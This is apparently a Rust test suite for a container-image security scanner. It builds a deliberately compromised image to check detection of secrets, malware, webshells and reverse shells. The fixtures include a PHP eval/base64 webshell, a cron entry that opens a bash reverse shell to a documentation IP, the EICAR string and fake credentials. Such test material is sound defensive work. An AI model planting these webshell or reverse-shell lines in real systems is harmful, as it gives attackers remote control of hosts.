//! Promise: what is wrong inside the files of an image is found, in whatever layer, and said where it came from.
#![allow(clippy::disallowed_methods, clippy::unwrap_used, reason = "tests write their own files")]

mod support;

use model::{Finding, Report, Severity};
use serde_json::json;
use std::path::{Path, PathBuf};
use support::{essence, report_of, rules, scan, seawall};
use testkit::{LayerEncoding, Layout, Tar};

/// A token that no service issued: its parts stand apart here, so that no scanner of this repository finds it.
fn aws_key_id() -> String {
    ["AKIA", "Q3EG7V2XN5DK", "Z4RP"].concat()
}

fn password() -> String {
    ["kT9", "w2Lz", "Qx7", "mVb4"].concat()
}

fn eicar() -> Vec<u8> {
    ["X5O!P%@AP[4\\PZX54(P^)7CC)7}", "$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!", "$H+H*"].concat().into_bytes()
}

fn webshell() -> Vec<u8> {
    ["<?php @ev", "al(base64_de", "code($_PO", "ST['x'])); ?>"].concat().into_bytes()
}

fn reverse_shell() -> Vec<u8> {
    ["* * * * * root bash -i >& /dev/t", "cp/192.0.2.7/4444 0>&1\n"].concat().into_bytes()
}

/// An image with one of everything: what was deleted later, what lies in archives, what stands in the configuration.
fn bad_image(directory: &Path) -> PathBuf {
    let lower = Tar::new()
        .file(
            "root/.aws/credentials",
            format!("[default]\naws_access_key_id = {}\n", aws_key_id()).as_bytes(),
        )
        .file("srv/drop.tar", &Tar::new().file("inner/virus.com", &eicar()).finish())
        .finish();
    let upper = Tar::new()
        .whiteout("root/.aws/credentials")
        .file("var/www/html/uploads/a.php", &webshell())
        .file("etc/cron.d/update", &reverse_shell())
        .finish();
    let mut layout = Layout::new(directory);
    let container = json!({ "Env": [format!("DB_PASSWORD={}", password()), "PATH=/usr/bin"] });
    let history = json!([
        { "created_by": "COPY creds /root/.aws # buildkit" },
        { "created_by": format!("RUN |1 DB_PASSWORD={} /bin/sh -c ./deploy # buildkit", password()) },
        { "created_by": format!("ENV DB_PASSWORD={}", password()), "empty_layer": true },
    ]);
    let image = layout.image_of("amd64", &[lower, upper], LayerEncoding::Gzip, &container, &history);
    layout.tag("bad", &image);
    layout.finish()
}

fn scan_bad(more: &[&str]) -> Report {
    let directory = tempfile::tempdir().unwrap();
    scan(&format!("oci:{}", bad_image(directory.path()).display()), more)
}

#[track_caller]
fn at<'r>(report: &'r Report, path: &str) -> Vec<&'r Finding> {
    let found: Vec<&Finding> = report
        .findings
        .iter()
        .filter(|finding| finding.location.path.as_ref().is_some_and(|found| found.as_str() == path))
        .collect();
    assert!(!found.is_empty(), "nothing at {path}: {:?}", rules(report));
    found
}

#[test]
fn a_credential_in_a_deleted_file_is_found_and_said_to_be_extractable() {
    let report = scan_bad(&[]);
    let found = at(&report, "root/.aws/credentials");
    let location = &found[0].location;
    let layer = location.layer.as_ref().unwrap();
    assert_eq!((layer.index, layer.instruction.as_deref()), (0, Some("COPY creds /root/.aws")));
    assert_eq!(location.hidden_by.as_ref().unwrap().index, 1);
    assert!(found.iter().any(|finding| finding.location.line == Some(2)));
}

#[test]
fn malware_in_an_archive_a_webshell_and_a_reverse_shell_are_found() {
    let report = scan_bad(&[]);
    let eicar = at(&report, "srv/drop.tar");
    assert_eq!(eicar[0].location.nested, ["inner/virus.com"]);
    for (path, prefix) in [("var/www/html/uploads/a.php", "webshell/"), ("etc/cron.d/update", "malware/")] {
        let found = at(&report, path);
        assert!(found.iter().any(|finding| finding.rule.starts_with(prefix)), "{path}: {found:?}");
        assert!(found.iter().any(|finding| finding.severity >= Severity::High), "{path}: {found:?}");
    }
}

#[test]
fn a_password_in_the_environment_is_one_finding_that_names_its_places_and_line() {
    let report = scan_bad(&["--only", "secrets"]);
    let found: Vec<&Finding> =
        report.findings.iter().filter(|finding| finding.location.path.is_none()).collect();
    assert_eq!(found.len(), 1, "{found:?}");
    let places = found[0].evidence.join("\n");
    assert!(places.contains("environment variable DB_PASSWORD") && places.contains("history"), "{places}");
    assert!(found[0].location.dockerfile_line.is_some());
}

#[test]
fn a_credential_is_in_no_output_until_it_is_asked_for() {
    let directory = tempfile::tempdir().unwrap();
    let target = format!("oci:{}", bad_image(directory.path()).display());
    let output = |more: &[&str]| {
        let mut text = String::new();
        for format in ["table", "json", "sarif", "html", "markdown", "junit", "cyclonedx", "spdx"] {
            let mut command = seawall(&["scan", &target, "--no-cache", "--full", "--format", format]);
            let output = command.args(more).output().unwrap();
            text.push_str(&String::from_utf8_lossy(&output.stdout));
            text.push_str(&String::from_utf8_lossy(&output.stderr));
        }
        text
    };
    let redacted = output(&[]);
    for secret in [password(), aws_key_id()] {
        assert!(!redacted.contains(&secret), "{secret} is in clear");
    }
    let clear = output(&["--show-secrets"]);
    assert!(clear.contains(&aws_key_id()));
}

#[test]
fn kinds_are_chosen_and_left_out() {
    let kinds = |more: &[&str]| {
        let report = scan_bad(more);
        let mut kinds: Vec<String> = report
            .findings
            .iter()
            .map(|finding| finding.rule.split('/').next().unwrap().to_owned())
            .collect();
        kinds.sort();
        kinds.dedup();
        kinds
    };
    assert_eq!(kinds(&["--only", "webshells"]), ["webshell"]);
    assert!(
        !kinds(&["--skip", "malware,webshells"]).iter().any(|kind| kind == "malware" || kind == "webshell")
    );
}

#[test]
fn streams_and_caches_change_nothing() {
    let directory = tempfile::tempdir().unwrap();
    let image = bad_image(&directory.path().join("image"));
    let target = format!("oci:{}", image.display());
    let expected = essence(&scan(&target, &[]));
    let archive = directory.path().join("image.tar.gz");
    let status = std::process::Command::new("tar")
        .arg("-C")
        .arg(&image)
        .arg("-czf")
        .arg(&archive)
        .arg(".")
        .status()
        .unwrap();
    assert!(status.success());
    assert_eq!(
        essence(&scan(&format!("archive:{}", archive.display()), &[])),
        expected,
        "compressed archive"
    );
    let cache = directory.path().join("cache").display().to_string();
    for _ in 0..2 {
        let output = seawall(&["scan", &target, "--cache", &cache, "--format", "json"]).output().unwrap();
        assert_eq!(essence(&report_of(output)), expected, "with a cache");
    }
}

#[test]
fn a_rule_file_of_gitleaks_is_used_and_what_is_not_understood_is_a_gap() {
    let directory = tempfile::tempdir().unwrap();
    let rules = directory.path().join("mine.toml");
    let text = "[[rules]]\nid = 'shop-token'\ndescription = 'shop token'\nregex = '''shop_[a-z]{12}'''\nkeywords = ['shop_']\n\
                [[rules]]\nid = 'broken'\nregex = '''('''\n";
    std::fs::write(&rules, text).unwrap();
    let tar = Tar::new().file("app/config.ini", b"token = shop_abcdefghijkl\n").finish();
    let mut layout = Layout::new(&directory.path().join("image"));
    let image = layout.image("amd64", &[tar], LayerEncoding::Plain);
    layout.tag("it", &image);
    let target = format!("oci:{}", layout.finish().display());
    let report = scan(&target, &["--only", "secrets", "--secret-rules", &rules.display().to_string()]);
    assert_eq!(rules_of(&report), ["secrets/mine/shop-token"]);
    assert!(report.gaps.iter().any(|gap| gap.what.ends_with("mine.toml") && gap.detail.contains("broken")));
}

fn rules_of(report: &Report) -> Vec<&str> {
    report.findings.iter().map(|finding| finding.rule.as_str()).collect()
}

#[test]
fn a_signature_set_of_clamav_is_used() {
    let directory = tempfile::tempdir().unwrap();
    let payload = b"a harmless payload that stands for another";
    let set = directory.path().join("mine.hsb");
    std::fs::write(&set, format!("{}:{}:Test.Payload-1:73\n", sha256(payload), payload.len())).unwrap();
    let tar = Tar::new().file("opt/x.bin", payload).finish();
    let mut layout = Layout::new(&directory.path().join("image"));
    let image = layout.image("amd64", &[tar], LayerEncoding::Plain);
    layout.tag("it", &image);
    let target = format!("oci:{}", layout.finish().display());
    let report = scan(&target, &["--only", "malware", "--hashes", &set.display().to_string()]);
    let found = at(&report, "opt/x.bin");
    assert!(
        found[0].evidence.join("\n").contains("Test.Payload-1") || found[0].title.contains("Test.Payload-1")
    );
}

fn sha256(bytes: &[u8]) -> String {
    let directory = tempfile::tempdir().unwrap();
    let layout = Layout::new(directory.path());
    let descriptor = layout.blob("text/plain", bytes);
    descriptor["digest"].as_str().unwrap().trim_start_matches("sha256:").to_owned()
}
